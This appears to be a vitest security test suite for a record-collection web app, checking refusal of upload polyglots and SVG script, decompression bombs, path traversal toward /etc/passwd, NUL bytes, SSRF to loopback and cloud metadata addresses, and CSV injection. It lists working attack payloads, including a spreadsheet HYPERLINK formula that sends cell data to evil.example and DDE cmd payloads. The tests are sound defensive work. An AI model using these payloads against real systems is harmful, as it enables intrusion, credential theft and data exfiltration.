import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpClient } from './support/http.js';
import { NUL_MESSAGE } from '../src/server/plugins/nul-characters.js';
import { isAdminRoute } from './support/route-classes.js';
import { ownPath, SAMPLES } from './support/samples.js';
import { routeKey } from './support/server.js';
import { startStage, type Stage } from './support/stage.js';
import { adminClient, albumBody, makeOwner, pngBytes, storeBody, uploadCover, type Owner } from './support/world.js';

// Uploads (polyglots, SVG, decompression bombs), path traversal, SSRF and CSV injection.

/** A server on loopback that counts every request it gets: the target an SSRF must never reach. */
async function startCanary() {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/png' }).end('canary');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { hits, port: (server.address() as AddressInfo).port, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

let stage: Stage;
let owner: Owner;
let canary: Awaited<ReturnType<typeof startCanary>>;
beforeAll(async () => {
  stage = await startStage();
  owner = await makeOwner(stage.server, 'ursula');
  canary = await startCanary();
});
afterAll(async () => {
  await stage.close();
  await canary.close();
});

/** A PNG whose header declares `width` × `height` (the pixel data is a token). */
function pngWithHeader(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(1024))), chunk('IEND', Buffer.alloc(0))]);
}

describe('uploads', () => {
  const SCRIPT = '<html><body><script>alert(document.cookie)</script></body></html>';

  it('an image with HTML/JS appended is stored re-encoded: the served bytes hold no script, typed as an image, nosniff', async () => {
    const polyglot = Buffer.concat([await pngBytes(), Buffer.from(SCRIPT)]);
    for (const name of ['cover.png', 'cover.html', 'cover.png.html']) {
      const res = await uploadCover(owner.client, polyglot, { filename: name, type: 'text/html' });
      expect(res.status).toBe(200);
      const url = (res.json as { url: string }).url;
      expect(url).toMatch(/^\/api\/cover-art\/[A-Za-z0-9_-]+\.(png|jpg|webp|gif)$/);
      const served = await fetch(`${stage.server.url}${url}`, { headers: { cookie: owner.client.cookieHeader } });
      const bytes = Buffer.from(await served.arrayBuffer());
      expect(served.headers.get('content-type')).toMatch(/^image\/(png|jpeg|webp|gif)$/);
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(bytes.toString('latin1')).not.toContain('<script');
    }
  });

  it('HTML, SVG with script, and a GIF-header JS polyglot are refused', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
    const cases: [string, Buffer, string][] = [
      ['cover.png', Buffer.from(SCRIPT), 'image/png'],
      ['cover.svg', Buffer.from(svg), 'image/svg+xml'],
      ['cover.png', Buffer.from(svg), 'image/png'],
      ['cover.gif', Buffer.from('GIF89a/*\x00\x00*/=alert(1)//;'), 'image/gif'],
    ];
    for (const [filename, bytes, type] of cases) {
      const res = await uploadCover(owner.client, bytes, { filename, type });
      expect([400, 415], `${filename} ${type}: ${res.status}`).toContain(res.status);
    }
  });

  it('decompression bombs: a PNG declaring 60000 × 60000 pixels is refused from its header, and the server stays up', async () => {
    for (const [width, height] of [[60_000, 60_000], [1, 2_000_000_000], [7_000, 7_000]]) {
      const res = await uploadCover(owner.client, pngWithHeader(width!, height!));
      expect(res.status, `${width}×${height}`).toBe(400);
    }
    expect((await new HttpClient(stage.server.url).get('/api/ping')).status).toBe(200);
  });

  it('the uploaded file name never reaches the stored name', async () => {
    const res = await uploadCover(owner.client, await pngBytes(), { filename: '../../../../tmp/evil"\r\nX-Injected: 1.png' });
    expect(res.status).toBe(200);
    expect((res.json as { url: string }).url).toMatch(/^\/api\/cover-art\/[A-Za-z0-9_-]+\.png$/);
  });
});

const TRAVERSALS = ['..%2F..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%5C..%5Cetc%5Cpasswd', '....%2F%2F....%2F%2Fetc%2Fpasswd', '%252e%252e%252fetc%252fpasswd', 'x%00.png'];
const LEAKS = /root:x:0:0|"name":\s*"spindle"|BEGIN [A-Z ]*PRIVATE KEY|spindle\.sqlite/;

/** GET over a raw socket: the path goes out exactly as written (fetch would normalise dot segments). */
function rawGet(path: string, cookie = ''): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const url = new URL(stage.server.url);
    const req = http.request({ host: url.hostname, port: url.port, path, method: 'GET', headers: { cookie } }, (res) => {
      let body = '';
      res.setEncoding('latin1');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('path traversal', () => {
  it('in every path parameter of every route (generated from the route table): 4xx, nothing read from disk', async () => {
    const admin = await adminClient(stage.server);
    const routes = stage.server.routes.filter((route) => route.params.length > 0 && route.url !== '/*');
    expect(routes.length).toBeGreaterThan(5);
    for (const route of routes) {
      const client = isAdminRoute(route) ? admin : owner.client;
      if (isAdminRoute(route) && route.method !== 'GET') continue;
      for (const payload of TRAVERSALS) {
        for (const param of route.params) {
          const path = (param === '*' ? route.url.replace('*', payload) : route.url.replace(new RegExp(`:${param}(?=/|$)`), payload)).replace(/:[A-Za-z0-9_]+/g, '1');
          const res = await client.request(path, { method: route.method, ...(route.method === 'GET' || route.method === 'DELETE' ? {} : { body: {} }) });
          expect(res.status, `${routeKey(route)} ${path}`).toBeGreaterThanOrEqual(400);
          expect(res.status, `${routeKey(route)} ${path}`).toBeLessThan(500);
          expect(res.text).not.toMatch(LEAKS);
        }
      }
    }
    // The owner's objects survived every DELETE above.
    expect((await owner.client.get(`/api/albums/${owner.albumId}`)).status).toBe(200);
  });

  it('in the web app’s own paths (raw, unnormalised): no file outside the build is served', async () => {
    const paths = ['/../../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/assets/../../package.json', '/assets/..%2f..%2f..%2fpackage.json', '/assets/%2e%2e%2f%2e%2e%2fpackage.json', '/api/cover-art/..%2f..%2fpackage.json', '/api/../../package.json', '/....//....//etc/passwd', '/assets/..\\..\\package.json'];
    for (const path of paths) {
      const res = await rawGet(path, owner.client.cookieHeader);
      expect(res.status, path).toBeLessThan(500);
      expect(res.body, path).not.toMatch(LEAKS);
    }
  });

  it('in file-ish fields: export collection names, the download file name, cover import paths', async () => {
    const evil = '../../../etc/passwd';
    expect((await owner.client.get(`/api/export/albums?collection=${encodeURIComponent(evil)}`)).status).toBe(404);
    const name = '..\\../"evil";\u202Eqwe';
    expect((await owner.client.post('/api/collections', { name })).status).toBe(201);
    const download = await owner.client.get(`/api/export/albums?collection=${encodeURIComponent(name)}`);
    expect(download.status).toBe(200);
    const disposition = download.headers.get('content-disposition') ?? '';
    const ascii = /filename="([^"]*)"/.exec(disposition)?.[1] ?? '';
    expect(ascii).not.toMatch(/[/\\]|\.\./);
    expect(ascii).toMatch(/^spindle-[\w-]*\.csv$/);
    for (const url of ['/api/cover-art/../../etc/passwd', '/api/cover-art/..%2F..%2Fpackage.json', '/api/cover-art/x.png/../../x']) {
      const res = await owner.client.post('/api/cover-art/import', { url });
      expect([400, 404], url).toContain(res.status);
    }
  });
});

describe('NUL characters (PostgreSQL text cannot hold them): 400 everywhere, never a 500', () => {
  it('in every string of every sample body, in queries and in path parameters', async () => {
    const routes = stage.server.routes.filter((route) => route.bodySchema && SAMPLES[routeKey(route)] && !isAdminRoute(route));
    expect(routes.length).toBeGreaterThan(10);
    for (const route of routes) {
      const sample = SAMPLES[routeKey(route)]!(owner).body;
      for (const [key, value] of Object.entries(sample)) {
        if (typeof value !== 'string') continue;
        const res = await owner.client.request(ownPath(route, owner), { method: route.method, body: { ...sample, [key]: `${value}\u0000` } });
        expect(res.status, `${routeKey(route)} ${key}: ${res.text}`).toBe(400);
        expect(res.json).toMatchObject({ message: NUL_MESSAGE });
      }
    }
    for (const path of ['/api/export/albums?collection=Shelf%00', '/api/cover-art?title=a%00&artist=b', `/api/shared/${owner.shareToken}/albums?search=%00`, '/api/auth/verify-reset-token?token=%00', '/demo-checkout/x%00/y', `/api/albums/${owner.albumId}%00`]) {
      const res = await owner.client.get(path);
      expect(res.status, path).toBe(400);
    }
  });
});

describe('SSRF: user-given URLs never reach the inside', () => {
  const internal = (port: number) => [
    `http://127.0.0.1:${port}/`,
    `http://localhost:${port}/`,
    `http://[::1]:${port}/`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://2130706433:${port}/`,
    `http://0x7f000001:${port}/`,
    `http://0177.0.0.1:${port}/`,
    `http://127.1:${port}/`,
    `http://0.0.0.0:${port}/`,
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://10.0.0.1/',
    'http://192.168.1.1/',
    'http://172.16.0.1/',
    'http://100.64.0.1/',
    `file:///etc/passwd`,
    `gopher://127.0.0.1:${port}/_x`,
    `ftp://127.0.0.1:${port}/`,
    'http://user:pass@example.com/cover.png',
  ];

  it('cover import and the image proxy refuse loopback, link-local, private, odd IP forms and other schemes, without connecting', async () => {
    for (const url of internal(canary.port)) {
      const imported = await owner.client.post('/api/cover-art/import', { url });
      expect(imported.status, `import ${url}`).toBe(400);
      const proxied = await owner.client.get(`/api/cover-art-image?url=${encodeURIComponent(url)}`);
      expect(proxied.status, `proxy ${url}`).toBe(400);
    }
    expect(canary.hits).toEqual([]);
  });

  it('a public-looking first hop that redirects inside is not followed (first hop exempted for the test)', async () => {
    const redirector = http.createServer((req, res) => {
      const to = decodeURIComponent((req.url ?? '/').slice(1));
      res.writeHead(302, { location: to }).end();
    });
    await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
    const port = (redirector.address() as AddressInfo).port;
    // Only host name 'localhost' is exempted, and only for the first hop: every target below is a second hop.
    const exempt = await startStage({}, { testAllowedPrivateHosts: ['localhost'] });
    try {
      const { client } = await makeOwner(exempt.server, 'ivan');
      for (const target of internal(canary.port).filter((url) => url.startsWith('http'))) {
        const url = `http://localhost:${port}/${encodeURIComponent(target)}`;
        const imported = await client.post('/api/cover-art/import', { url });
        expect([400, 502], `${target}: ${imported.status}`).toContain(imported.status);
        const proxied = await client.get(`/api/cover-art-image?url=${encodeURIComponent(url)}`);
        expect([400, 502], `${target}: ${proxied.status}`).toContain(proxied.status);
      }
      expect(canary.hits).toEqual([]);
    } finally {
      await exempt.close();
      await new Promise<void>((resolve) => redirector.close(() => resolve()));
    }
  });

  it('no user field reaches the geocoder or the map tiles (both are configuration only)', async () => {
    const website = `http://127.0.0.1:${canary.port}/shop`;
    const store = await owner.client.post('/api/record-stores', storeBody({ website, streetAddress: `http://127.0.0.1:${canary.port}/`, city: '@169.254.169.254' }));
    expect(store.status).toBe(201);
    await owner.client.post('/api/record-stores/update-coordinates', {});
    const config = (await owner.client.get('/api/map-config')).json as { tileUrl: string };
    expect(config.tileUrl).toBe(stage.server.app.ctx.config.mapTileUrl);
    expect(canary.hits).toEqual([]);
    // The geocoder was asked (at its configured base) and only there.
    expect(stage.nominatim.requests.length).toBeGreaterThan(0);
    const routesTakingUrls = stage.server.routes.filter((route) => /tile|geocod/i.test(route.url));
    expect(routesTakingUrls.map(routeKey)).toEqual([]);
  });

  it('album cover links must be http(s) or our own uploads: javascript:, data: and the like are refused', async () => {
    for (const coverUrl of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'vbscript:msgbox(1)', '//evil.example/x.png']) {
      const res = await owner.client.post('/api/albums', albumBody(owner.collectionName, { title: `Cover ${coverUrl.length}`, coverUrl }));
      expect(res.status, coverUrl).toBe(400);
    }
  });
});

/** Splits CSV text into rows of cells (RFC 4180 quoting). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('CSV injection', () => {
  it('every text cell a spreadsheet would read as a formula (=, +, -, @, tab, CR) is exported with a leading quote', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '=1+1'];
    const collection = '=cmd|\' /C calc\'!A0';
    expect((await owner.client.post('/api/collections', { name: collection })).status).toBe(201);
    for (const [i, payload] of payloads.entries()) {
      const res = await owner.client.post(
        '/api/albums',
        albumBody(collection, { title: `${payload} ${i}`, artist: payload, purchaseLocation: payload, label: payload, country: payload.slice(0, 20), isLent: true, lentTo: payload }),
      );
      expect(res.status, res.text).toBe(201);
    }
    const csv = await owner.client.get('/api/export/albums');
    expect(csv.status).toBe(200);
    const cells = parseCsv(csv.text.replace(/^\uFEFF/, '')).slice(1).flat();
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous, 'cells a spreadsheet would evaluate').toEqual([]);
    expect(cells.filter((cell) => cell.startsWith("'=HYPERLINK")).length).toBeGreaterThan(0);
  });
});
